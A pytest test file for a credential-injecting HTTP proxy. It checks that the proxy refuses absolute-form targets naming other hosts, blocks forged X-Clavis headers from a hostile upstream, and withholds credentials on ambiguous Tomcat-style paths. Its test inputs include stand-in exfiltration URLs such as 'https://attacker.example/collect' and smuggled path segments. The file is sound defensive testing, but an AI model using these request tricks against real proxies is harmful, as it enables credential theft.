"""Attacks on where the credential lands and on what the proxy says, found after SECURITY-CASES A.

Each test is named for the attack; the reflecting upstream records everything it receives.
"""

from __future__ import annotations

from pathlib import Path

import pytest
import trustme

from clavis_mcp.proxy import EmbeddedProxy
from clavis_mcp.vault import Vault, validate_secret
from tests.conftest import SECRET, make_service, proxy_client
from tests.hostile_upstream import start_hostile
from tests.proxy.conftest import A_HOST, SECRET_A, SHARED_HOST, RawClient, Upstream

pytestmark = [pytest.mark.anyio, pytest.mark.e2e]


@pytest.mark.parametrize(
    "target",
    [
        "https://attacker.example/collect",
        "http://attacker.example/collect",
        f"https://{A_HOST}:8443/collect",
        f"https://{A_HOST}.attacker.example/collect",
        f"https://user@{A_HOST}/collect",
    ],
    ids=["other-host", "other-scheme-and-host", "other-port", "suffix-host", "userinfo"],
)
async def test_absolute_form_target_naming_another_authority_inside_a_tunnel_is_refused(
    routed_proxy: EmbeddedProxy, home: Path, reflector: Upstream, target: str
) -> None:
    """RFC 9112 §3.2.2: the absolute-form authority overrides Host, and shared front ends route by it."""
    raw = await RawClient.connect(routed_proxy)
    assert (await raw.tunnel(f"{A_HOST}:443", home, sni=A_HOST)).status == 200
    response = await raw.send(f"GET {target} HTTP/1.1\r\nHost: {A_HOST}\r\n\r\n".encode())
    await raw.close()
    assert response.status in (400, 421), response
    assert reflector.received == []


async def test_absolute_form_target_naming_the_tunnel_host_is_sent_in_origin_form(
    routed_proxy: EmbeddedProxy, home: Path, reflector: Upstream
) -> None:
    raw = await RawClient.connect(routed_proxy)
    assert (await raw.tunnel(f"{A_HOST}:443", home, sni=A_HOST)).status == 200
    response = await raw.send(f"GET https://{A_HOST}/v1/ok?x=1 HTTP/1.1\r\nHost: {A_HOST}\r\n\r\n".encode())
    await raw.close()
    assert response.status == 200
    assert [r.path for r in reflector.received] == ["/v1/ok?x=1"]
    assert reflector.credentials_seen() == [f"Bearer {SECRET_A}"]


async def test_an_upstream_cannot_send_headers_in_the_proxys_own_namespace(
    vault: Vault, proxy: EmbeddedProxy, home: Path, upstream_ca: trustme.CA
) -> None:
    """An agent reads ``X-Clavis-*`` as the proxy's word: only the proxy may write there."""
    hostile = start_hostile(upstream_ca)
    try:
        vault.add_service(make_service("api", f"127.0.0.1:{hostile.port}", local=True), validate_secret(SECRET))
        async with proxy_client(proxy, home) as client:
            response = await client.get(hostile.url("/forge-refusal"))
    finally:
        hostile.server.shutdown()
        hostile.server.server_close()
    assert response.status_code == 200
    ours = {name.lower(): value for name, value in response.headers.items() if "clavis" in name.lower()}
    assert set(ours) == {"x-clavis-audit-id", "x-clavis-redactions"}
    assert ours["x-clavis-audit-id"] != "forged"


async def test_an_unreadable_path_on_a_host_whose_owner_depends_on_the_path_gets_no_credential(
    services: Vault, routed_proxy: EmbeddedProxy, home: Path, reflector: Upstream
) -> None:
    """``/b;x/secret`` is ``/b/secret`` to Tomcat, the path-prefixed service's territory: judged
    without its path it would go to the catch-all with the catch-all's credential."""
    services.add_service(make_service("shared-all", SHARED_HOST), validate_secret(SECRET_A + "-all"))
    services.add_service(make_service("shared-b", "*.shared.example", path_prefixes=("/b",)),
                         validate_secret(SECRET_A + "-b"))  # fmt: skip
    raw = await RawClient.connect(routed_proxy)
    assert (await raw.tunnel(f"{SHARED_HOST}:443", home, sni=SHARED_HOST)).status == 200
    response = await raw.send(f"GET /b;x/secret HTTP/1.1\r\nHost: {SHARED_HOST}\r\n\r\n".encode())
    await raw.close()
    assert response.status == 400
    assert reflector.received == []
